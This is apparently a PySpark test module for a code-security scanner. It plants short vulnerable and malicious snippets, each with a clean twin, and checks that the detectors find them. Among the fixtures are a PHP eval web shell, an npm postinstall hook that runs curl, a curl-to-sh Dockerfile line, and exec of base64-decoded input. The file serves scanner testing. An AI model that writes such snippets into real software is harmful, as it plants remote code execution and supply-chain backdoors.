"""Registered queries that run the real catalogue over files made of the documents table, and findings of two
projects whose files have the same paths.

Each document makes one file: a plant that its id names, and the document's own words beside it. What a detector must
find is known by construction: the SQL states it, the query detects it.
"""

from __future__ import annotations

from functools import reduce

from pyspark.sql import functions as F

from ..operators import findings as ops
from ..operators.rules import match_rules
from ..sources import manifests
from ..sources.files import language, lines, spread
from . import scan
from .queries import DOC_RULES, FOUND, LINES, found, query, table

#: Planted files: path, text, and (rule, line) that must be found there; every other file is the clean twin of one.
PLANTS = (
    ("app.py", '#\nq = f"select * from t where id={x}"\n', (("patterns.python-sql-fstring", 2),)),
    ("app.py", '#\nq = "select * from t where id=%s"\n', ()),
    ("run.py", "import subprocess\nsubprocess.run(cmd, shell=True)\nyaml.load(f)\n", (("patterns.python-shell-true", 2), ("patterns.python-yaml-load", 3))),
    ("run.py", "import subprocess\nsubprocess.run(cmd)\nyaml.load(f, Loader=yaml.SafeLoader)\n", ()),
    ("hash.py", "\n\nhashlib.md5(b)\nget(u, verify=False)\n", (("patterns.weak-hash-md5-sha1", 3), ("patterns.tls-verify-disabled", 4))),
    ("hash.py", "\n\nhashlib.md5(b, usedforsecurity=False)\nget(u, verify=True)\n", ()),
    ("db.go", 'package a\ndb.Query(fmt.Sprintf("a"))\n', (("patterns.go-sql-sprintf", 2), ("lang.go.sql-sprintf", 2))),
    ("db.go", 'package a\ndb.Query("a", x)\n', ()),
    ("page.js", "let a;\ne.innerHTML = x\n", (("patterns.js-innerhtml", 2),)),
    ("page.js", "let a;\ne.textContent = x\n", ()),
    ("old.c", "int a;\ngets(b);\n", (("lang.c.gets", 2),)),
    ("Dockerfile", "FROM ubuntu:latest\nUSER app\n", (("iac.docker-latest-tag", 1),)),
    ("k8s.yaml", "apiVersion: v1\nkind: Pod\nprivileged: true\n", (("iac.k8s-privileged", 3),)),
    ("docker-compose.yml", "services:\n  a:\n    cap_add:\n      - NET_ADMIN\n      - SYS_ADMIN\n", (("container.cap-sys-admin", 3),)),
    ("tool.py", 'import pickle\npickle.loads(b)\nos.system("rm " + x)\neval(x)\n', (("patterns.python-pickle-loads", 2), ("patterns.python-os-system", 3), ("patterns.python-eval-exec", 4))),
    ("tool.py", 'import pickle\npickle.loads(pickle.dumps(b))\nos.system("df -h")\nsession.exec(x)\n', ()),
    ("b.sh", 'eval "$x"\n', (("lang.shell.eval-var", 1),)),
    ("c.php", "<?php eval($_POST['x']);\n", (("malware.php-webshell", 1),)),
    ("setup.py", "exec(base64.decode(x))\n", (("patterns.python-eval-exec", 1), ("malware.obfuscated-exec", 1))),
    ("package.json", '{"scripts": {"postinstall": "curl http://x"}}', (("supply-chain.npm-lifecycle-script", None), ("malware.suspicious-postinstall", 1))),
    ("package.json", '{"scripts": {"test": "mocha"}}', ()),
    ("main.tf", 'acl = "public-read"\nAction = "*"\n\nResource = "*"\n', (("iac.tf-s3-public", 1), ("cloud.public-s3-acl", 1), ("cloud.iam-wildcard", 2))),
    (".github/workflows/ci.yml", "on:\n  pull_request_target:\npermissions:\n  contents: write\njobs:\n  - uses: a/b@v1\n", (("cicd.pull-request-target", 2), ("cicd.excessive-permissions", 3), ("cicd.unpinned-action", 6))),
    ("Dockerfile", "FROM a:1\nENV API_KEY=x\nRUN curl https://x | sh\n", (("iac.docker-user-root", 1), ("container.dockerfile-env-secret", 2), ("malware.curl-pipe-shell", 3), ("iac.docker-curl-bash", 3))),
    ("provenance.json", '{"predicate": {}}', (("provenance.missing-builder-id", 1), ("provenance.unsigned", 1))),
    ("openapi.json", '{"paths": {"/users": {"get": {}}}}', (("api.missing-security", 1),)),
    ("openapi.json", '{"security": [{"key": []}], "paths": {"/users": {"get": {}}}}', ()),
)


def with_words(planted, path, text):
    """A planted text and a document's own: its words as comments below the plant, in JSON as one more field.

    Words are runs of small letters, so nothing that rules look for is in them, but all of the document is read.
    """
    mark = F.when(F.rlike(path, F.lit(r"\.(?:js|go|c|php|mod)$")), "// ").when(F.rlike(path, F.lit(r"Gemfile\.lock$")), "").otherwise("# ")
    words = F.regexp_replace(F.coalesce(text, F.lit("")), "[^a-z\n]+", " ")
    lines_ = F.concat(mark, F.replace(words, F.lit("\n"), F.concat(F.lit("\n"), mark)), F.lit("\n"))
    field = F.concat(F.regexp_replace(planted, r"\}\s*$", ""), F.lit(', "description": "'), F.replace(words, F.lit("\n"), F.lit(" ")), F.lit('"}'))
    return F.when(F.startswith(planted, F.lit("{")), field).otherwise(F.concat(planted, lines_))


def _files(spark, d, plants):
    """One file for each document, of the plant that its id names and its own words: project, path, language, size, text."""
    docs = table(spark, d, "documents").select(F.col("source").alias("project"), "doc_id", F.col("text").alias("own"))
    kind = (F.col("doc_id") % len(plants)).cast("int") + 1
    path = F.element_at(F.array(*(F.lit(p) for p, *_ in plants)), kind)
    text = F.element_at(F.array(*(p[1] if not isinstance(p[1], str) else F.lit(p[1]) for p in plants)), kind)
    path = F.concat(F.lit("d"), F.col("doc_id").cast("string"), F.lit("/"), path)
    text = with_words(text, path, F.col("own"))
    return spread(docs.select("project", path.alias("path"), language(path).alias("language"), F.length(text).cast("long").alias("size"), text.alias("text")))


def _values(rows) -> str:
    return ", ".join("(" + ", ".join("NULL" if v is None else repr(v) if isinstance(v, int) else "'" + str(v).replace("'", "''") + "'" for v in r) + ")" for r in rows)


PLANTED = f"""planted(k, name, rule_id, line) AS (VALUES {_values((k, p, rule, line) for k, (p, _, found) in enumerate(PLANTS) for rule, line in found)})"""


def _plants(name: str) -> str:
    """SQL for documents that make a file of the name."""
    return f"doc_id % {len(PLANTS)} IN ({', '.join(str(k) for k, (p, *_) in enumerate(PLANTS) if p == name)})"


CATALOGUE = ["secrets", "patterns", "lang-sast", "malware", "iac", "container", "cicd", "cloud", "supply-chain", "provenance", "api"]


@query(f"WITH {PLANTED} SELECT source AS project, 'd' || doc_id || '/' || name AS path, rule_id, line AS start_line FROM documents JOIN planted ON doc_id % {len(PLANTS)} = k UNION ALL SELECT source, '.', 'provenance.missing', NULL FROM documents GROUP BY source HAVING bool_or({_plants("package.json")}) AND NOT bool_or({_plants("provenance.json")})")
def catalogue_rules(spark, d):
    """Line rules, block walks and document checks of eleven detectors over planted files and their clean twins."""
    return scan.detect(_files(spark, d, PLANTS), CATALOGUE).select("project", "path", "rule_id", "start_line")


# ---- manifests and advisories


def _formats():
    """The ten formats: file name, ecosystem, and the text as a column of the package's name and version."""
    name, version = F.col("__name"), F.col("__version")

    def fill(template: str):
        parts = template.replace("NAME", "\0N\0").replace("VERSION", "\0V\0").split("\0")
        return F.concat(*(name if p == "N" else version if p == "V" else F.lit(p) for p in parts if p))

    texts = {
        "poetry.lock": '[[package]]\nname = "NAME"\nversion = "VERSION"\n', "Pipfile.lock": '{"default": {"NAME": {"version": "==VERSION"}}}', "requirements.txt": "# pinned\nNAME==VERSION\n",
        "package-lock.json": '{"packages": {"": {}, "node_modules/NAME": {"version": "VERSION"}}}', "yarn.lock": '"NAME@^1":\n  version "VERSION"\n', "package.json": '{"dependencies": {"NAME": "^VERSION"}}',
        "go.mod": "module m\nrequire example.com/NAME vVERSION\n", "Cargo.lock": '[[package]]\nname = "NAME"\nversion = "VERSION"\n', "Gemfile.lock": "GEM\n  specs:\n    NAME (VERSION)\n", "composer.lock": '{"packages": [{"name": "NAME", "version": "vVERSION"}]}',
    }
    return [(file, ecosystem, fill(texts[file])) for file, ecosystem in manifests.FORMATS]


def _manifest_files(spark, d):
    docs = table(spark, d, "documents").select(F.col("source").alias("project"), "doc_id", F.col("text").alias("own"))
    docs = docs.withColumn("__name", F.concat(F.lit("pkg"), (F.col("doc_id") % 50).cast("string"))).withColumn("__version", F.concat_ws(".", (F.col("doc_id") % 9).cast("string"), (F.col("doc_id") % 7).cast("string"), F.lit("0")))
    formats = _formats()
    kind = (F.col("doc_id") % len(formats)).cast("int") + 1
    path = F.concat(F.lit("d"), F.col("doc_id").cast("string"), F.lit("/"), F.element_at(F.array(*(F.lit(f) for f, *_ in formats)), kind))
    text = reduce(lambda out, i: F.when(kind == i + 1, formats[i][2]).otherwise(out), range(len(formats)), F.lit(""))
    text = with_words(text, path, F.col("own"))
    return spread(docs.select("project", path.alias("path"), language(path).alias("language"), F.length(text).cast("long").alias("size"), text.alias("text")))


MANIFESTS = f"""formats(k, file, ecosystem) AS (VALUES {_values((k, f, e) for k, (f, e) in enumerate(manifests.FORMATS))}),
pk AS (SELECT source AS project, doc_id, ecosystem, 'd' || doc_id || '/' || file AS manifest, CASE WHEN file = 'go.mod' THEN 'example.com/' ELSE '' END || 'pkg' || (doc_id % 50) AS package, doc_id % 9 AS major, (doc_id % 9) || '.' || (doc_id % 7) || '.0' AS version FROM documents JOIN formats ON doc_id % 10 = k)"""


@query(f"WITH {MANIFESTS} SELECT project, ecosystem, manifest, package, version FROM pk")
def manifest_packages(spark, d):
    """The ten manifest formats."""
    return manifests.packages(_manifest_files(spark, d)).select("project", "ecosystem", "manifest", "package", "version")


@query(f"""WITH {MANIFESTS}, first AS (SELECT project, ecosystem, package, version, any_value(major) AS major, min(manifest) AS manifest FROM pk GROUP BY project, ecosystem, package, version),
a AS (SELECT DISTINCT ecosystem, 'pkg' || n AS package, n, CASE WHEN n % 2 = 0 THEN 'HIGH' ELSE 'LOW' END AS severity FROM formats, range(0, 50, 3) r(n))
SELECT f.project, f.manifest AS path, 'dependencies.ADV-' || a.n AS rule_id, CASE a.severity WHEN 'HIGH' THEN 3 ELSE 1 END AS severity FROM first f JOIN a ON f.ecosystem = a.ecosystem AND f.package = a.package AND f.major < 5""")
def scanned_dependencies(spark, d):
    """Manifests through the dependencies detector: advisories on every third package below version 5."""
    n = spark.range(0, 50, 3).withColumnRenamed("id", "n")
    level = F.when(F.col("n") % 2 == 0, "HIGH").otherwise("LOW")
    known = n.select("n", F.concat(F.lit("ADV-"), F.col("n").cast("string")).alias("id"), F.concat(F.lit("pkg"), F.col("n").cast("string")).alias("package"), F.lit("<5").alias("vulnerable"), level.alias("severity"), F.concat(F.lit("CVE-"), F.col("n").cast("string")).alias("cve"))
    advisories = known.withColumn("ecosystem", F.explode(F.array(*(F.lit(e) for e in sorted({e for _, e in manifests.FORMATS}))))).drop("n")
    return scan.detect(_manifest_files(spark, d), ["dependencies"], tables={"advisories": advisories}).select("project", "path", "rule_id", "severity")


# ---- two projects with the same paths

LINES2 = LINES.replace("source AS project", "'p' || (doc_id % 2) AS project").replace("'docs/' || lang || '/' || doc_id || '.txt' AS path", "'docs/' || (doc_id // 2) || '.txt' AS path")
FOUND2 = FOUND.replace(LINES, LINES2)


def _two(spark, d):
    docs = table(spark, d, "documents")
    return spread(docs.select(F.concat(F.lit("p"), (F.col("doc_id") % 2).cast("string")).alias("project"), F.concat(F.lit("docs/"), F.floor(F.col("doc_id") / 2).cast("string"), F.lit(".txt")).alias("path"), F.lit("Text").alias("language"), F.col("n_chars").alias("size"), "text"))


def _found(spark, d):
    raw = match_rules(_two(spark, d), DOC_RULES)
    number = F.create_map(*[F.lit(x) for i, r in enumerate(DOC_RULES) for x in (r.id, i)])
    doc = F.regexp_extract("path", r"([0-9]+)\.txt$", 1).cast("long") * 2 + F.substring("project", 2, 1).cast("long")
    return ops.with_scores(raw.withColumn("ordinal", doc * 4294967296 + F.col("start_line") * 64 + F.element_at(number, F.col("rule_id"))))


@query(f"WITH {FOUND2} SELECT ordinal FROM found WHERE project <> 'p0' OR start_line % 2 = 1")
def two_projects_suppression(spark, d):
    """Ignore comments on even lines of one project leave the other's findings alone."""
    note = F.when((F.col("project") == "p0") & (F.col("line") % 2 == 0), "# spanwarden-ignore reason='known'").otherwise("")
    noted = lines(_two(spark, d)).withColumn("content", note)
    return ops.inline_suppressed(_found(spark, d), noted, F.to_date(F.lit("2024-06-01"))).select("ordinal")


@query(f"WITH {FOUND2} SELECT ordinal FROM found WHERE project = 'p1' AND start_line <= 2")
def two_projects_diff(spark, d):
    """A diff of one project's first two lines."""
    changed = lines(_two(spark, d)).where("project = 'p1' AND line <= 2").select("project", "path", "line")
    return ops.in_diff(_found(spark, d), changed).select("ordinal")


@query(f"""WITH {FOUND2}, n AS (SELECT * FROM found WHERE rule_id IN ('pii.phone-number', 'pii.email')), i AS (SELECT * FROM found WHERE rule_id = 'pii.long-number'),
p AS (SELECT i.ordinal, n.ordinal AS n_ordinal, row_number() OVER (PARTITION BY i.ordinal ORDER BY abs(i.start_line - n.start_line), n.ordinal) AS k FROM i JOIN n ON i.project = n.project AND i.path = n.path AND abs(i.start_line - n.start_line) <= 2)
SELECT n.ordinal AS ordinal, coalesce(x.also, 0) AS also FROM n LEFT JOIN (SELECT n_ordinal, count(*) AS also FROM p WHERE k = 1 GROUP BY n_ordinal) x ON x.n_ordinal = n.ordinal UNION ALL SELECT ordinal, 0 FROM i WHERE ordinal NOT IN (SELECT ordinal FROM p)""")
def two_projects_merge(spark, d):
    """Another tool's findings fold into native ones of their own project only."""
    f = _found(spark, d).withColumn("cve", F.lit(None).cast("string"))
    out = ops.merged(f.where(F.col("rule_id").isin("pii.phone-number", "pii.email")), f.where("rule_id = 'pii.long-number'").withColumn("scanner", F.lit("imported")))
    return out.select("ordinal", F.greatest(F.coalesce(F.size("also_reported_by"), F.lit(0)), F.lit(0)).cast("long").alias("also"))


@query(f"WITH {FOUND2} SELECT project, ordinal FROM found f WHERE NOT EXISTS (SELECT 1 FROM found b WHERE b.project = 'p0' AND b.project = f.project AND b.fingerprint = f.fingerprint)")
def two_projects_baseline(spark, d):
    """A baseline of one project hides nothing of the other, equal paths and lines or not."""
    f = _found(spark, d)
    return ops.new_findings(f, f.where("project = 'p0'")).select("project", "ordinal")


def fold_sql(found: str, extra: str) -> str:
    """The ordered fold over two tools' reports of one weakness in a file: each row meets the last one kept."""
    return f"""WITH RECURSIVE base AS (SELECT *, 'tool' || (ordinal % 2) AS tool FROM ({found}) WHERE rule_id LIKE 'pii.%'),
o AS (SELECT *, dense_rank() OVER (ORDER BY project, path, list_sort(cwe)) AS g, row_number() OVER (PARTITION BY project, path, list_sort(cwe) ORDER BY start_line, ordinal) AS n FROM base),
r(g, n, k, k_line, k_tool, k_conf, k_sev, k_rule, closed) AS (SELECT g, n, ordinal, start_line, tool, confidence, severity, rule_id, NULL::BIGINT FROM o WHERE n = 1
UNION ALL SELECT o.g, o.n, CASE WHEN near AND NOT better THEN r.k ELSE o.ordinal END, CASE WHEN near AND NOT better THEN r.k_line ELSE o.start_line END, CASE WHEN near AND NOT better THEN r.k_tool ELSE o.tool END, CASE WHEN near AND NOT better THEN r.k_conf ELSE o.confidence END,
CASE WHEN near AND NOT better THEN r.k_sev ELSE o.severity END, CASE WHEN near AND NOT better THEN r.k_rule ELSE o.rule_id END, CASE WHEN NOT near THEN r.k END
FROM r JOIN o ON o.g = r.g AND o.n = r.n + 1, LATERAL (SELECT o.tool <> r.k_tool AND o.start_line - r.k_line <= 3 AS near, (o.confidence, o.severity) > (r.k_conf, r.k_sev) OR ((o.confidence, o.severity) = (r.k_conf, r.k_sev) AND o.rule_id < r.k_rule) AS better)),
kept AS (SELECT closed AS ordinal FROM r WHERE closed IS NOT NULL UNION ALL SELECT arg_max(k, n) FROM r GROUP BY g)
SELECT {extra} FROM base JOIN kept USING (ordinal)"""


@query(fold_sql(f"WITH {FOUND} SELECT * FROM found", "ordinal, path, start_line, rule_id, tool AS scanner"))
def cross_tool_dedupe(spark, d):
    """The ordered fold over two tools' reports; its rows depend on the last one kept."""
    f = found(spark, d).where("rule_id LIKE 'pii.%'").withColumn("scanner", F.concat(F.lit("tool"), F.col("ordinal") % 2))
    return ops.deduplicated(f).select("ordinal", "path", "start_line", "rule_id", "scanner")


@query(fold_sql(f"WITH {FOUND2} SELECT * FROM found", "ordinal, project, path, start_line, tool AS scanner"))
def two_projects_dedupe(spark, d):
    """The ordered fold over two tools' reports of two projects with the same paths."""
    f = _found(spark, d).where("rule_id LIKE 'pii.%'").withColumn("scanner", F.concat(F.lit("tool"), F.col("ordinal") % 2))
    return ops.deduplicated(f).select("ordinal", "project", "path", "start_line", "scanner")


@query()
def full_scan(spark, d):
    """The standard profile over planted files, through the whole chain: findings by rule and verification."""
    f = scan.scan(_files(spark, d, PLANTS), today=F.to_date(F.lit("2024-06-01")))
    return f.groupBy("rule_id", "severity", "verification").agg(F.count("*").alias("n"), F.max("contextual_risk").alias("risk"))
